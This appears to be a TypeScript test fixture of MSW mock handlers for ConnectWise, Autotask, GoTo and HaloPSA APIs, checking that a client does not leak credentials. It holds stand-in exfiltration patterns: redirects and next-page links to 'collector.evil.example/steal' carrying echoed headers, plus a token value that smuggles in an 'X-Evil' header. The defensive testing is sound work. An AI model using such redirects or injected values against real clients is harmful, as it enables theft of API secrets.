import { delay, HttpResponse, http, type RequestHandler } from 'msw';
import { SENTINELS } from './sentinels.js';

/** Ways a vendor can fail, each answering every authenticated call. */
export const FAILURES = [
  'echo-400',
  'echo-401',
  'echo-403',
  'echo-404',
  'echo-500',
  'echo-429',
  'echo-503',
  'malformed-json',
  'wrong-shape',
  'redirect-foreign',
  'next-page-foreign',
  'dropped',
  'timeout',
] as const;

/** One failure mode. */
export type Failure = (typeof FAILURES)[number];

/** Where a redirect or a next-page link points: no credential may arrive here. */
export const FOREIGN = 'https://collector.evil.example';

export const CW_ORIGIN = 'https://api-na.myconnectwise.net';
export const AT_DISCOVERY = 'https://webservices.autotask.net';
export const AT_ZONE = 'https://webservices5.autotask.net';
export const GOTO_API = 'https://api.getgo.com';
export const GOTO_AUTH = 'https://authentication.logmeininc.com';
export const HALO = 'https://msp.halopsa.com';

/** Every request the foreign origin received, with its headers and body. */
export interface Captured {
  readonly url: string;
  readonly headers: Record<string, string>;
  readonly body: string;
}

/** What a careless vendor echoes back: every request header and the body, raw and base64. */
async function echoOf(request: Request): Promise<string> {
  const headers = Object.fromEntries(request.headers.entries());
  const body = await request.clone().text();
  const text = `${JSON.stringify(headers)} body=${body}`;
  return `${text} b64=${Buffer.from(text).toString('base64')}`;
}

/** The answer of `failure` to `request`; `list` marks calls whose answer is a list page. */
async function fail(
  failure: Failure,
  request: Request,
  list: 'cw' | 'at' | 'goto' | 'halo',
): Promise<Response> {
  const echo = await echoOf(request);
  const status = Number(/^echo-(\d+)$/.exec(failure)?.[1] ?? 0);
  if (status) {
    const body =
      list === 'at'
        ? { errors: [echo] }
        : list === 'goto'
          ? { errors: [{ code: 'x', value: echo }] }
          : list === 'halo'
            ? { ClassName: echo, Message: echo, resultCode: echo, errorMessage: echo, error: echo }
            : { message: echo, errors: [{ message: echo }] };
    return HttpResponse.json(body, { status, headers: status === 429 ? { 'retry-after': '0' } : {} });
  }
  switch (failure) {
    case 'malformed-json':
      return new HttpResponse(`{"oops": ${echo}`, {
        status: 200,
        headers: { 'content-type': 'application/json' },
      });
    case 'wrong-shape':
      return HttpResponse.json({ id: echo, items: echo, results: echo, name: 7, version: 7, accounts: echo });
    case 'redirect-foreign':
      return new HttpResponse(null, {
        status: 307,
        headers: { location: `${FOREIGN}/steal?x=${encodeURIComponent(echo)}` },
      });
    case 'dropped':
      return HttpResponse.error();
    case 'timeout':
      await delay(2_000);
      return HttpResponse.json({});
    default:
      return HttpResponse.json({});
  }
}

/** The foreign origin: records whatever reaches it. */
export function foreignHandlers(captured: Captured[]): RequestHandler[] {
  return [
    http.all(`${FOREIGN}/*`, async ({ request }) => {
      captured.push({
        url: request.url,
        headers: Object.fromEntries(request.headers.entries()),
        body: await request.text(),
      });
      return HttpResponse.json([]);
    }),
  ];
}

/** ConnectWise: discovery works, every authenticated call fails as `failure`. */
export function connectWiseHandlers(failure: Failure): RequestHandler[] {
  return [
    http.get(`${CW_ORIGIN}/login/companyinfo/:id`, () => HttpResponse.json({ Codebase: 'v2025_1/' })),
    http.all(`${CW_ORIGIN}/v2025_1/apis/3.0/*`, async ({ request }) => {
      if (failure === 'next-page-foreign') {
        const path = new URL(request.url).pathname;
        if (path.endsWith('/system/info')) return HttpResponse.json({ version: '2025.1' });
        return HttpResponse.json([{ id: 1, name: 'Acme', communicationItems: [] }], {
          headers: { link: `<${FOREIGN}/v2025_1/apis/3.0/company/companies?pageId=2>; rel="next"` },
        });
      }
      return fail(failure, request, 'cw');
    }),
  ];
}

/** Autotask: the zone lookup works (on a numbered zone host), every authenticated call fails. */
export function autotaskHandlers(failure: Failure): RequestHandler[] {
  return [
    http.get(`${AT_DISCOVERY}/ATServicesRest/V1.0/zoneInformation`, () =>
      HttpResponse.json({
        zoneName: 'Zone 5',
        url: `${AT_ZONE}/ATServicesRest/`,
        webUrl: 'https://ww5.autotask.net/',
        ci: 5,
      }),
    ),
    http.all(`${AT_ZONE}/ATServicesRest/V1.0/*`, async ({ request }) => {
      if (failure === 'next-page-foreign') {
        const path = new URL(request.url).pathname;
        if (path.endsWith('/ThresholdInformation'))
          return HttpResponse.json({ externalRequestThreshold: 10000 });
        if (path.includes('entityInformation')) return HttpResponse.json({ fields: [] });
        return HttpResponse.json({
          items: [{ id: 1, companyName: 'Acme', companyID: 1 }],
          pageDetails: {
            count: 1,
            requestCount: 500,
            nextPageUrl: `${FOREIGN}/ATServicesRest/V1.0/Companies/query?paging=x`,
          },
        });
      }
      return fail(failure, request, 'at');
    }),
  ];
}

/** A zone lookup that points at the foreign origin: no secret may follow it. */
export function foreignZoneHandlers(): RequestHandler[] {
  return [
    http.get(`${AT_DISCOVERY}/ATServicesRest/V1.0/zoneInformation`, () =>
      HttpResponse.json({ zoneName: 'Zone X', url: `${FOREIGN}/ATServicesRest/` }),
    ),
  ];
}

/** GoTo: the token endpoint answers with the sentinel access token; every API call fails. */
export function gotoHandlers(failure: Failure): RequestHandler[] {
  return [
    http.post(`${GOTO_AUTH}/oauth/token`, () =>
      HttpResponse.json({ access_token: SENTINELS.gotoAccessToken, expires_in: 3600, token_type: 'Bearer' }),
    ),
    http.all(`${GOTO_API}/admin/rest/v1/*`, async ({ request }) =>
      fail(failure === 'next-page-foreign' ? 'redirect-foreign' : failure, request, 'goto'),
    ),
  ];
}

/** GoTo's token endpoint failing as `failure`, echoing the request (Basic header, form body). */
export function gotoTokenHandlers(failure: Failure | 'newline-token'): RequestHandler[] {
  return [
    http.post(`${GOTO_AUTH}/oauth/token`, async ({ request }) => {
      if (failure === 'newline-token') {
        return HttpResponse.json({
          access_token: `${SENTINELS.gotoAccessToken}\nX-Evil: 1`,
          expires_in: 3600,
        });
      }
      return fail(failure, request, 'at');
    }),
  ];
}

/** HaloPSA: authinfo and the token endpoint work (the token is a sentinel); every API call fails. */
export function haloHandlers(failure: Failure): RequestHandler[] {
  return [
    http.get(`${HALO}/api/authinfo`, () => HttpResponse.json({ auth_url: `${HALO}/auth` })),
    http.post(`${HALO}/auth/token`, () =>
      HttpResponse.json({ access_token: SENTINELS.haloAccessToken, expires_in: 3600, token_type: 'Bearer' }),
    ),
    // Halo pages by number, so a foreign next link is played as a redirect.
    http.all(`${HALO}/api/*`, async ({ request }) =>
      fail(failure === 'next-page-foreign' ? 'redirect-foreign' : failure, request, 'halo'),
    ),
  ];
}

/** Halo's token endpoint failing as `failure`, echoing the form (which holds the client secret). */
export function haloTokenHandlers(failure: Failure): RequestHandler[] {
  return [
    http.get(`${HALO}/api/authinfo`, () => HttpResponse.json({ auth_url: `${HALO}/auth` })),
    http.post(`${HALO}/auth/token`, async ({ request }) => fail(failure, request, 'halo')),
  ];
}
